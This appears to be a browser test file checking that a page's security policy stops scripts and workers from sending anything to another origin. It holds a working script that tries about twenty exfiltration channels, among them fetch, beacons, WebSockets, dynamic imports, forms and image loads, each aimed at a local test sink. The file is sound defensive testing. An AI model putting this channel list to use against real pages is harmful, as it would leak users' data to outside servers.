// Nothing leaves the page: every channel that a script has is tried, from the page and from a worker such as the
// engines are, against a server on another port that would accept all of it.

import assert from "node:assert/strict";
import { test } from "node:test";
import { withPage } from "./support/browser.mjs";
import { sink } from "./support/server.mjs";

/** Runs in the page or in a worker: tries each channel there is, and says what became of it. */
const attempts = `async (sink) => {
  const tried = {};
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (name, act) => {
    try {
      tried[name] = String(await Promise.race([act(), wait(1500).then(() => "no answer")]));
    } catch (error) {
      tried[name] = "refused: " + error.message;
    }
  };
  const settled = (thing, good, bad) =>
    new Promise((resolve) => {
      thing[good] = () => resolve("got through");
      thing[bad] = () => resolve("refused");
    });
  await attempt("fetch", () => fetch(sink + "/fetch?secret").then(() => "got through"));
  await attempt("fetch no-cors", () =>
    fetch(sink + "/no-cors", { mode: "no-cors", method: "POST", body: "secret" }).then(() => "got through"));
  await attempt("fetch keepalive", () =>
    fetch(sink + "/keepalive", { keepalive: true, method: "POST", body: "secret" }).then(() => "got through"));
  await attempt("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("POST", sink + "/xhr");
    const done = settled(request, "onload", "onerror");
    request.send("secret");
    return done;
  });
  await attempt("WebSocket", () => settled(new WebSocket(sink.replace("http", "ws") + "/socket"), "onopen", "onerror"));
  await attempt("EventSource", () => settled(new EventSource(sink + "/events"), "onopen", "onerror"));
  await attempt("wasm", () => WebAssembly.compileStreaming(fetch(sink + "/engine.wasm")).then(() => "got through"));
  await attempt("import", () => import(sink + "/module.mjs").then(() => "got through"));
  if (navigator.sendBeacon) await attempt("beacon", async () => navigator.sendBeacon(sink + "/beacon", "secret"));
  if (typeof importScripts === "function") {
    await attempt("importScripts", async () => importScripts(sink + "/script.js"));
  }
  if (typeof document === "object") {
    const element = (name, properties) => Object.assign(document.createElement(name), properties);
    const added = (name, properties) => {
      const made = element(name, properties);
      const done = settled(made, "onload", "onerror");
      document.body.append(made);
      return done;
    };
    await attempt("image", () => added("img", { src: sink + "/image.png" }));
    await attempt("script", () => added("script", { src: sink + "/script.js" }));
    await attempt("style", () => added("link", { rel: "stylesheet", href: sink + "/style.css" }));
    await attempt("prefetch", () => added("link", { rel: "prefetch", href: sink + "/prefetch" }));
    await attempt("frame", () => added("iframe", { src: sink + "/frame.html" }));
    await attempt("object", () => added("object", { data: sink + "/object.svg" }));
    await attempt("video", () => added("video", { src: sink + "/video.mp4" }));
    await attempt("css image", async () => {
      const box = element("p", { textContent: "x" });
      box.style.backgroundImage = "url(" + sink + "/background.png)";
      document.body.append(box);
      await wait(300);
      return "tried";
    });
    await attempt("form", async () => {
      const form = element("form", { action: sink + "/form", method: "post", target: "_self" });
      form.append(element("input", { name: "secret", value: "1" }));
      document.body.append(form);
      form.submit();
      await wait(300);
      return "tried";
    });
    await attempt("ping", async () => {
      const link = element("a", { href: "#", ping: sink + "/ping" });
      document.body.append(link);
      link.click();
      await wait(300);
      return "tried";
    });
    await attempt("foreign worker", async () => settled(new Worker(sink + "/worker.js"), "onmessage", "onerror"));
  }
  return tried;
}`;

/** The sink must be able to hear: from a page without the policy, everything arrives. */
test("the sink hears what a page without the policy sends", async () => {
  const elsewhere = await sink();
  const { launch } = await import("./support/browser.mjs");
  const browser = await launch();
  try {
    const page = await browser.newPage();
    await page.goto(`${elsewhere.origin}/plain.html`);
    await page.evaluate(`(${attempts})(${JSON.stringify(elsewhere.origin)})`).catch(() => {});
    for (const heard of ["GET /fetch?secret", "POST /no-cors", "POST /xhr", "UPGRADE /socket", "GET /events",
      "GET /engine.wasm", "GET /module.mjs", "POST /beacon", "GET /image.png", "GET /script.js", "GET /background.png"]) {
      assert.ok(elsewhere.received.includes(heard), `${heard} did not arrive: ${elsewhere.received}`);
    }
  } finally {
    await browser.close();
    await elsewhere.close();
  }
});

/** Requests that the browser refused are reported as requests all the same; only the sink's word counts here. */
async function nothingArrives(act) {
  const elsewhere = await sink();
  try {
    await withPage(async (given) => {
      const tried = await act({ ...given, sink: elsewhere.origin });
      assert.ok(Object.keys(tried).length >= 8, JSON.stringify(tried));
      await given.page.waitForTimeout(300);
      assert.deepEqual(elsewhere.received, [], JSON.stringify(tried));
      const { host } = new URL(elsewhere.origin);
      given.seen.requests = given.seen.requests.filter((url) => !url.includes(host));
      given.seen.errors.length = 0;
    });
  } finally {
    await elsewhere.close();
  }
}

test("nothing gets out of the page", () =>
  nothingArrives(({ page, sink }) => page.evaluate(`(${attempts})(${JSON.stringify(sink)})`)));

test("nothing gets out of a worker like those of the engines", () =>
  nothingArrives(({ page, sink }) =>
    page.evaluate(
      ([source, sink]) =>
        new Promise((resolve, reject) => {
          const text = `(${source})(${JSON.stringify(sink)}).then((tried) => postMessage(tried))`;
          const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
          worker.onmessage = (event) => resolve(event.data);
          worker.onerror = (event) => reject(new Error(event.message));
        }),
      [attempts, sink],
    )));

test("nothing gets out of a running engine", () =>
  nothingArrives(async ({ page, sink }) => {
    await page.waitForFunction(() => document.querySelector("main"));
    const deadline = Date.now() + 20_000;
    while (page.workers().length === 0 && Date.now() < deadline) await page.waitForTimeout(50);
    const [engine] = page.workers();
    assert.ok(engine, "no engine runs");
    assert.match(engine.url(), /^blob:/);
    return engine.evaluate(`(${attempts})(${JSON.stringify(sink)})`);
  }));
